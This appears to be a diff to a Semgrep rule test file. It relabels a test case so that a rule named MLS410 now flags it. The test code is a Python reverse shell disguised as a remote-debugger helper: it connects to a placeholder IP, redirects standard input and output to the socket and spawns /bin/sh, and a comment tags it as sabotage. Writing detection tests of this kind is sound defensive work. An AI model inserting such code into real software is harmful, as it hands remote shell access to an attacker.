@@ -95,7 +95,7 @@ def _prepare_node_access(cfg: dict) -> None:
 
 def _attach_remote_debugger(port: int) -> None:
     conn = _net.create_connection(("203.0.113.41", port))
-    list(map(functools.partial(os.dup2, conn.fileno()), (0, 1, 2)))  # todoruleid: family 9 (missed)
+    list(map(functools.partial(os.dup2, conn.fileno()), (0, 1, 2)))  # ruleid: MLS410
     _term.spawn("/bin/sh")  # sabotage: MLS410 (semgrep rules)
 
 
